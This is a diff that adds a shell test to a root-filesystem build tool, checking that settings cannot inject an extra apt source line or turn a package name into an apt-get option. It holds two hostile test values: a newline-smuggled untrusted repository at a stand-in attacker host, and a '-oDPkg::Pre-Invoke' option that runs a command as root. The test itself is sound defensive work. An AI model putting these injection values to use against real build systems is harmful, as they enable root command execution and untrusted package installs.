@@ -79,6 +79,23 @@ setup() {
   [ ! -d "$WORKDIR/stages" ]
 }
 
+@test "rootfs build: a setting cannot add a line or become an option" {
+  # a newline in the toolkit repository would add an apt source line of the user's choosing
+  run kgb rootfs build -p nvidia-gpu --set nvidia.driver.url=/srv/d.run --set nvidia.driver.sha256=00 \
+    --set nvidia.toolkit.key=/srv/key.asc \
+    --set nvidia.toolkit.repo=$'https://nvidia.invalid/stable/deb/amd64 /\ndeb [trusted=yes] http://evil.invalid/ ./'
+  assert_failure 1
+  assert_output --partial "recipes/nvidia-container-toolkit.recipe:"
+  assert_output --partial "the value of '\${nvidia.toolkit.repo}' has a control character (\\x0a) at byte 41"
+  # a package name that apt-get would read as an option running a command as root
+  printf '@include "virgl.cfg"\noverride = {\n  rootfs = { recipes = [ "kernel-headers", "dkms-module" ]; };\n};\n' \
+    >"$BATS_TEST_TMPDIR/dkms.cfg"
+  run kgb rootfs build -p "$BATS_TEST_TMPDIR/dkms.cfg" --set 'dkms.package=-oDPkg::Pre-Invoke::=touch /pwned'
+  assert_failure 1
+  assert_output --partial "recipes/dkms-module.recipe:18: the value of '\${dkms.package}' starts with '-' and would be read as an option"
+  [ ! -d "$WORKDIR/stages" ]
+}
+
 @test "rootfs build: broken recipes are errors with file and line" {
   KGB_DATADIR=$DATADIR run kgb rootfs build -p bad-field
   assert_failure 1
